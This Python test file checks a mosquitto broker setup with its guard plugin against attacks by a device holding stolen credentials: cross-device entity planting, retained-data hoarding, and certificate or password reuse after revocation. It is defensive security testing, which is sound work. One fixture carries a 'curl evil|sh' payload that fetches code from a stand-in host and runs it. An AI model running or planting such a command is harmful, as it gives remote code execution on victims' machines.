# SPDX-License-Identifier: MIT
"""#15 items 2, 3 and 5: the attacks of a thief holding one Pi's credentials,
run against a real mosquitto on the configuration keymime-broker generates
(with its keymime_guard plugin). Each attack must fail, and the legitimate use
next to it must still work. (Item 1, the WebSockets bind, is test_bind.py;
item 4, TLS files with a plain-text URI, is test_agent.py.)"""
import json
import os
import shutil
import time

from brokerlib import BrokerDir, can_connect, mqttclient, testmain, wait_for

D = BrokerDir()
D.kb("ca")
D.kb("server-cert", "localhost", "127.0.0.1", "--client-certs", "required")
D.add_device("pia")
D.add_device("pib")
D.add_device("pold")
for _dev in ("pia", "pib", "pold"):
    D.kb("client-cert", _dev)
OP = D.add("operator", "alice")
HA = D.add("homeassistant", "ha")
B = D.start()
wait_for(lambda: can_connect(D.tls_port) and can_connect(D.wss_port), 10, "TLS listeners")
P, T, CA = D.port, D.tls_port, D.ca_file()


def as_dev(dev, path=None):
    """Connection options of a device the way it must log in: its password
    and its own certificate (from path, default its directory) over TLS."""
    return dict(user=dev, password=D.accounts[dev], tls=True, cert=path or D.device_dir(dev))


def dpub(dev, topic, payload, retain=False, path=None):
    """Publish as dev (acknowledged); returns the state the broker
    acknowledged it in: 0, or why the login failed."""
    return D.pub(topic, payload, retain=retain, **as_dev(dev, path))


def retained(topic, user="ha"):
    return B.retained(topic, user)


def big(n):
    return "x" * n


# ---- 2: a device plants Home Assistant entities on another device -------------

EVIL = {"name": "Enter", "unique_id": "keymime_pib_enter",
        "device": {"identifiers": ["keymime_pib"], "name": "pib"},
        "command_topic": "keymime/group/all/cmd", "payload_press": '{"text":"curl evil|sh"}'}


def planted(config):
    """Publish config retained as pia on its own discovery topic; True when Home
    Assistant's account can read it back."""
    topic = "homeassistant/button/keymime_pia/planted/config"
    dpub("pia", topic, json.dumps(config), retain=True)   # acknowledged: dealt with
    return retained(topic) is not None


def test_device_cannot_plant_a_button_on_another_device():
    assert not planted(EVIL), "the issue's exact attack still works"
    own = dict(EVIL, device={"identifiers": ["keymime_pia"]}, unique_id="keymime_pia_x")
    variants = {
        "command to a group": own,
        "command to another device": dict(own, command_topic="keymime/pib/keys"),
        "abbreviated command topic": {"cmd_t": "keymime/pib/cmd", "uniq_id": "keymime_pia_x"},
        "base topic": {"~": "keymime/pib", "cmd_t": "~/cmd"},
        "another device's identity": dict(own, command_topic="keymime/pia/keys",
                                          device={"identifiers": ["keymime_pia", "keymime_pib"]}),
        "abbreviated identity": dict(own, command_topic="keymime/pia/keys",
                                     dev={"ids": "keymime_pib"}, device=None),
        "another device's unique id": dict(own, command_topic="keymime/pia/keys",
                                           unique_id="keymime_pib_enter"),
        "availability of another device": dict(own, command_topic="keymime/pia/keys",
                                               availability=[{"topic": "keymime/pib/availability"}]),
        "a connection (MAC) merging devices": dict(own, command_topic="keymime/pia/keys",
                                                   device={"identifiers": ["keymime_pia"],
                                                           "connections": [["mac", "x"]]}),
        "not JSON": "{\"command_topic\":",
    }
    for what, cfg in variants.items():
        if isinstance(cfg, dict):
            cfg = {k: v for k, v in cfg.items() if v is not None}
        topic = "homeassistant/button/keymime_pia/planted/config"
        dpub("pia", topic, cfg if isinstance(cfg, str) else json.dumps(cfg), retain=True)
        assert retained(topic) is None, "accepted: " + what


def test_own_discovery_config_still_works():
    cfg = {"name": "Enter", "unique_id": "keymime_pia_enter",
           "device": {"identifiers": ["keymime_pia"], "name": "pia"},
           "availability_topic": "keymime/pia/availability",
           "command_topic": "keymime/pia/keys", "payload_press": "enter"}
    topic = "homeassistant/button/keymime_pia/enter/config"
    assert dpub("pia", topic, json.dumps(cfg), retain=True) == 0
    wait_for(lambda: retained(topic) == json.dumps(cfg), 5, "pia's own config")
    dpub("pia", topic, "", retain=True)          # and it may delete it
    wait_for(lambda: retained(topic) is None, 5, "pia's config deleted")


# ---- 3: a device hoards retained data -------------------------------------------

def test_device_cannot_store_retained_results():
    for i in range(5):
        dpub("pia", "keymime/pia/result/r%d" % i, big(15000), retain=True)
    dpub("pia", "keymime/pia/result", "{}", retain=True)   # (each acknowledged)
    got = B.retained_all("keymime/pia/#", "alice")
    assert [t for t in got if "/result" in t] == [], got


def test_size_caps_on_device_state():
    assert dpub("pia", "keymime/pia/status", big(20000), retain=True) == 0   # QoS 1 ack
    assert retained("keymime/pia/status") is None, "a 20 kB status was stored"
    dpub("pia", "keymime/pia/availability", big(100), retain=True)
    assert retained("keymime/pia/availability") is None
    with D.sub("keymime/pia/result", "alice") as s:
        dpub("pia", "keymime/pia/result", big(20000))
        dpub("pia", "keymime/pia/result", '{"id":"1","ok":true}')
        s.wait(1)
        s.fence()
        assert s.messages() == [("keymime/pia/result", '{"id":"1","ok":true}')], \
            [(t, len(p)) for t, p in s.messages()]


def test_device_state_still_retained():
    status = json.dumps({"busy": False, "pad": big(4000)})
    dpub("pia", "keymime/pia/status", status, retain=True)
    dpub("pia", "keymime/pia/availability", "online", retain=True)
    wait_for(lambda: retained("keymime/pia/status") == status, 5, "status retained")
    assert retained("keymime/pia/availability") == "online"


def test_operator_commands_are_never_retained():
    with D.sub("keymime/pib/type", **as_dev("pib")) as s:
        D.pub("keymime/pib/type", "stored", "alice", OP, retain=True)
        D.pub("keymime/pib/type", "live", "alice", OP)
        s.wait(1)
        s.fence()
        assert s.messages() == [("keymime/pib/type", "live")], s.messages()
    assert retained("keymime/pib/type", "alice") is None


# ---- 5: certificates bound to accounts; revocation ends live sessions ----------

def test_certificate_serves_only_its_own_account():
    # pold's certificate with alice's password: refused (it logged in as alice)
    rc = D.pub("keymime/pib/type", "x", "alice", OP, tls=True, cert=D.device_dir("pold"))
    assert rc != 0, "pold's certificate logged in as alice"
    rc = D.pub("keymime/pia/status", "{}", "pia", tls=True, cert=D.device_dir("pold"))
    assert rc != 0, "pold's certificate logged in as pia"
    rc = dpub("pold", "keymime/pold/status", "{}")
    assert rc == 0, rc


def test_device_password_alone_is_useless():
    pw = D.accounts["pold"]
    rc = D.pub("keymime/pold/status", "{}", "pold", pw)              # plain MQTT
    assert rc != 0, "a device password alone logged in on the plain port"
    wss = dict(transport="websockets", tls_ca=CA, version=4)          # 9443
    assert mqttclient.connack(D.wss_port, "pold", pw, **wss) in (4, 5), \
        "a device password alone logged in on 9443"
    assert mqttclient.connack(D.wss_port, "alice", OP, **wss) == 0   # people: passwords


def session(dev, path=None):
    """A live subscription of dev to its own commands over TLS."""
    return D.sub("keymime/%s/type" % dev, **as_dev(dev, path))


def ended(s, dev):
    """The live session is over (the broker closed it), and a command
    published after that did not reach it."""
    if not s.wait_closed(5):
        return False
    D.pub("keymime/%s/type" % dev, "after", "alice", OP)
    return ("keymime/%s/type" % dev, "after") not in s.messages()


def test_revoke_cert_ends_live_session_and_password():
    keep = os.path.join(D.tmp, "pold-stolen")
    shutil.copytree(D.device_dir("pold"), keep)
    stolen_pw = D.accounts["pold"]
    with session("pold", keep) as s:
        D.pub("keymime/pold/type", "before", "alice", OP)
        assert s.wait(1) == [("keymime/pold/type", "before")]
        t0 = time.monotonic()
        D.kb("revoke-cert", "pold")
        wait_for(lambda: "ending the sessions of pold" in open(B.log.name).read(), 5, "kick")
        assert ended(s, "pold"), s.messages()
        print("  live session of pold ended %.1f s after revoke-cert" % (time.monotonic() - t0))
    rc = D.pub("keymime/pold/status", "{}", "pold", stolen_pw, tls=True, cert=keep)
    assert rc != 0, "the revoked certificate and password still log in"
    assert "password_file" not in open(os.path.join(D.device_dir("pold"), "agent.conf")).read()
    # new credentials bring the device back (the legitimate way)
    D.kb("client-cert", "pold")
    D.kb("rotate", "pold")
    D.accounts["pold"] = D.device_password("pold")
    wait_for(lambda: dpub("pold", "keymime/pold/status", "{}") == 0, 5, "pold back")


def test_remove_device_ends_certificate_session():
    D.add_device("pgone")
    D.kb("client-cert", "pgone")
    keep = os.path.join(D.tmp, "pgone-stolen")
    shutil.copytree(D.device_dir("pgone"), keep)
    with session("pgone", keep) as s:
        D.pub("keymime/pgone/type", "before", "alice", OP)
        assert s.wait(1) == [("keymime/pgone/type", "before")]
        D.kb("remove-device", "pgone")
        assert ended(s, "pgone"), s.messages()
    rc = dpub("pgone", "keymime/pgone/status", "{}", path=keep)
    assert rc != 0


def test_rotate_ends_the_old_password():
    with session("pib") as s:
        old = D.accounts["pib"]
        D.kb("rotate", "pib")
        assert ended(s, "pib")
    D.accounts["pib"] = D.device_password("pib")
    assert D.pub("keymime/pib/status", "{}", "pib", old, tls=True,
                 cert=D.device_dir("pib")) != 0
    assert dpub("pib", "keymime/pib/status", "{}") == 0


if __name__ == "__main__":
    testmain.main(globals(), cleanup=D.cleanup)
